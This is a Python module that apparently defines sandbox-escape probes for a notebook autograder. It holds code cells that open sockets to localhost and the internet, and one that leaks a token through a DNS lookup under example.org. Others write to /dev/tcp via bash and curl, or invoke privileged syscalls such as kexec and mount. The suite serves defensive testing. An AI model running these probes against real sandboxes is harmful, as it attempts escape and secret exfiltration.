"""Every way out: to the internet, to this machine, to the kernel, to other processes."""

from ..attack import Attack

_FAMILY = "network"


def _attack(name: str, tries: str, cell: str, **more: object) -> Attack:
    return Attack(name, _FAMILY, tries, cell, **more)  # type: ignore[arg-type]


def _connect(name: str, tries: str, family: str, kind: str, address: str) -> Attack:
    return _attack(
        name,
        tries,
        f"""
import socket
try:
    s = socket.socket({family}, {kind})
    s.settimeout(0.5)
    s.connect({address})
    s.send(b"@TOKEN@")
    won("connected")
except OSError:
    pass
""",
    )


ATTACKS = [
    _connect(
        "tcp",
        "a TCP server of this machine",
        "socket.AF_INET",
        "socket.SOCK_STREAM",
        '("127.0.0.1", int("@TCP@"))',
    ),
    _connect(
        "tcp6",
        "a TCP server over IPv6",
        "socket.AF_INET6",
        "socket.SOCK_STREAM",
        '("::1", int("@TCP6@"))',
    ),
    _connect(
        "udp",
        "a UDP server of this machine",
        "socket.AF_INET",
        "socket.SOCK_DGRAM",
        '("127.0.0.1", int("@UDP@"))',
    ),
    _connect(
        "internet",
        "a name server in the internet",
        "socket.AF_INET",
        "socket.SOCK_STREAM",
        '("9.9.9.9", 53)',
    ),
    _connect(
        "unix", "a Unix socket by its path", "socket.AF_UNIX", "socket.SOCK_STREAM", '"@SOCKET@"'
    ),
    _connect(
        "unix-abstract",
        "a Unix socket without a path",
        "socket.AF_UNIX",
        "socket.SOCK_STREAM",
        '"\\0@TOKEN@"',
    ),
    _connect(
        "unix-datagram",
        "a Unix datagram socket",
        "socket.AF_UNIX",
        "socket.SOCK_DGRAM",
        '"\\0@TOKEN@-datagrams"',
    ),
    _attack(
        "netlink",
        "netlink: asks the kernel for routes and listens to its events",
        """
import socket
for protocol in range(22):
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        won(f"netlink {protocol}")
    except OSError:
        pass
""",
        not_stock="a netlink socket is nothing that stock nbgrader guards",
    ),
    _attack(
        "packet-and-raw",
        "raw IP and link-layer packets",
        """
import socket
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 3),
                               (socket.AF_PACKET, socket.SOCK_DGRAM, 3),
                               (socket.AF_INET, socket.SOCK_RAW, 1),
                               (socket.AF_INET6, socket.SOCK_RAW, 58)):
    try:
        socket.socket(family, kind, protocol)
        won(f"family {family}")
    except OSError:
        pass
""",
    ),
    _attack(
        "vsock",
        "vsock: the hypervisor's own line",
        """
import socket
for cid in (0, 1, 2, 3):
    try:
        s = socket.socket(40, socket.SOCK_STREAM)
        s.settimeout(0.2)
        won("a vsock socket")
        s.connect((cid, 22))
        won(f"connected to {cid}")
    except OSError:
        pass
""",
        not_stock="a vsock socket is nothing that stock nbgrader guards",
    ),
    _attack(
        "every-family",
        "every family there is, of every kind but Unix",
        """
import socket
for family in range(64):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        try:
            socket.socket(family, kind)
        except OSError:
            continue
        if family != socket.AF_UNIX:
            won(f"socket {family} {kind}")
""",
        not_stock="stock nbgrader guards no family of sockets",
    ),
    _attack(
        "names",
        "looks a name up: its own secret as the name",
        """
import socket
socket.setdefaulttimeout(0.5)
for name in ("localhost", "example.org", "@TOKEN@.example.org"):
    try:
        found = socket.getaddrinfo(name, 80)
        if name != "localhost":
            won(found)
    except OSError:
        pass
""",
    ),
    _attack(
        "serve",
        "serves from its own process, for somebody to call in",
        """
import socket
for family, address in ((socket.AF_INET, ("0.0.0.0", 0)), (socket.AF_INET6, ("::", 0))):
    try:
        s = socket.socket(family)
        s.bind(address)
        s.listen()
        won(s.getsockname())
    except OSError:
        pass
""",
        not_stock="stock nbgrader guards no port",
    ),
    _attack(
        "url-and-programs",
        "urllib, pip, curl and /dev/tcp",
        """
import os, subprocess, urllib.request
url = "http://127.0.0.1:@TCP@/@TOKEN@"
try:
    urllib.request.urlopen(url, timeout=0.5)
    won("urllib")
except Exception:
    pass
for command in (["curl", "-sm1", url], ["sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/@TCP@"],
                ["bash", "-c", "echo @TOKEN@ > /dev/tcp/127.0.0.1/@TCP@"]):
    try:
        if subprocess.run(command, timeout=2, capture_output=True).returncode == 0:
            won(command[0])
    except (OSError, subprocess.TimeoutExpired):
        pass
""",
    ),
    _attack(
        "io-uring-and-others",
        "io_uring, bpf, perf, userfaultfd, namespaces and mounts, by number",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
calls = {"io_uring": (425, 8, 0), "bpf": (321, 0, 0, 0), "perf": (298, 0, 0, -1, -1, 0),
         "userfaultfd": (323, 0), "unshare": (272, 0x10000000), "mount": (165, b"x", b"/tmp", 0),
         "pivot_root": (155, b"/", b"/"), "fsopen": (430, b"tmpfs", 0), "setns": (308, 3, 0),
         "kexec": (246, 0, 0, 0, 0), "init_module": (175, 0, 0, b""), "swapon": (167, b"x", 0)}
for name, arguments in calls.items():
    if libc.syscall(*arguments) >= 0:
        won(name)
""",
        not_stock="stock nbgrader filters no system call",
    ),
    _attack(
        "pass-descriptors",
        "sends descriptors over the judging channel",
        """
import os, socket
def send():
    for number in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(number))
            socket.send_fds(s, [b"x"], [0, 1, 2])
        except OSError:
            pass
""",
        answers={"squares": "def squares(k):\n    send()"},
        not_stock="there is no judging channel",
    ),
]
